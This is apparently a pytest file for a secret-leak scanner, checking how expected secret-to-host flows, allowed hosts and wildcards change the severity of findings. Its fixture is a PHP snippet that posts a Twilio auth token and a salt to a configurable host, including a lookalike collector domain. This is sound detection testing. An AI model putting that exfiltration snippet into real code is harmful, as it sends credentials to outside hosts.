"""A site's own expectations: pairs of secret and destination, and allowed hosts."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.errors import ConfigurationError
from scanner.model.finding import Finding, Severity
from scanner.model.signature import ExpectedFlow
from scanner.pipeline import ScanOptions, diff, scan

CODE = """<?php
$ch = curl_init("https://{host}/v1");
curl_setopt($ch, CURLOPT_POSTFIELDS, array("t" => $GLOBALS['twilio_auth_token'], "s" => {second}));
curl_exec($ch);
"""


def release(folder: Path, host: str, second: str = "1") -> str:
    folder.mkdir(parents=True)
    (folder / "send.php").write_text(CODE.replace("{host}", host).replace("{second}", second))
    return str(folder)


def options(*flows: ExpectedFlow, hosts: tuple[str, ...] = ()) -> ScanOptions:
    return ScanOptions(cache=None, jobs=0, expected=flows, allowed_hosts=hosts)


def severities(findings: tuple[Finding, ...]) -> dict[str, str]:
    return {"+".join(f.secrets): f.severity.value for f in findings if f.rule == "secret-to-network"}


def test_an_expected_flow_is_info_and_any_other_secret_to_the_same_host_is_not(tmp_path: Path) -> None:
    source = release(tmp_path / "r", "relay.example.org", "$GLOBALS['salt']")
    flow = ExpectedFlow("projects.twilio_auth_token", "relay.example.org")
    assert severities(scan(source, options()).findings) == {
        "projects.twilio_auth_token": "critical",
        "salt": "critical",
    }
    found = severities(scan(source, options(flow)).findings)
    assert found == {"projects.twilio_auth_token": "info", "salt": "critical"}


def test_an_expected_flow_says_nothing_of_other_hosts(tmp_path: Path) -> None:
    source = release(tmp_path / "r", "relay.example.org.collector.example")
    for destination in ("relay.example.org", "*.example.org"):
        flow = ExpectedFlow("projects.twilio_auth_token", destination)
        found = severities(scan(source, options(flow)).findings)
        assert found == {"projects.twilio_auth_token": "critical"}


def test_a_pattern_stands_for_the_hosts_below_a_domain(tmp_path: Path) -> None:
    source = release(tmp_path / "r", "eu.relay.example.org")
    flow = ExpectedFlow("projects.twilio_auth_token", "*.relay.example.org")
    assert severities(scan(source, options(flow)).findings) == {"projects.twilio_auth_token": "info"}


def test_a_digest_may_go_where_the_secret_may_not(tmp_path: Path) -> None:
    flow = ExpectedFlow("salt", "stats.example.org", digest=True)
    plain = release(tmp_path / "plain", "stats.example.org", "$GLOBALS['salt']")
    digest = release(tmp_path / "digest", "stats.example.org", "hash('sha256', $GLOBALS['salt'])")
    assert severities(scan(plain, options(flow)).findings)["salt"] == "critical"
    assert severities(scan(digest, options(flow)).findings)["salt"] == "info"


def test_a_call_to_an_allowed_host_is_known_in_a_scan_and_no_news_in_a_comparison(tmp_path: Path) -> None:
    new = tmp_path / "new"
    new.mkdir()
    (new / "send.php").write_text('<?php file_get_contents("https://status.example.org/v1"); ')
    old = tmp_path / "old"
    old.mkdir()
    (old / "send.php").write_text("<?php ")
    for hosts, severity in (((), Severity.HIGH), (("*.example.org",), Severity.INFO)):
        comparison = diff(str(old), str(new), options(hosts=hosts))
        assert [change.finding.severity for change in comparison.changes] == [severity]


def test_expectations_are_part_of_the_cached_result(tmp_path: Path) -> None:
    source = release(tmp_path / "r", "relay.example.org")
    flow = ExpectedFlow("projects.twilio_auth_token", "relay.example.org")
    for flows, severity in (((), "critical"), ((flow,), "info"), ((), "critical")):
        report = scan(source, ScanOptions(cache=tmp_path / "cache", jobs=0, expected=flows))
        assert severities(report.findings) == {"projects.twilio_auth_token": severity}


@pytest.mark.parametrize(
    ("flow", "hosts"),
    [
        (ExpectedFlow("config.no_such_setting", "a.example"), ()),
        (ExpectedFlow("salt", "*"), ()),
        (ExpectedFlow("salt", "*.org"), ()),
        (ExpectedFlow("salt", "https://a.example/x"), ()),
        (None, ("*",)),
        (None, ("a.example/path",)),
    ],
    ids=repr,
)
def test_what_names_nothing_or_everything_is_refused(
    tmp_path: Path, flow: ExpectedFlow | None, hosts: tuple[str, ...]
) -> None:
    flows = () if flow is None else (flow,)
    with pytest.raises(ConfigurationError):
        scan(release(tmp_path / "r", "a.example"), options(*flows, hosts=hosts))
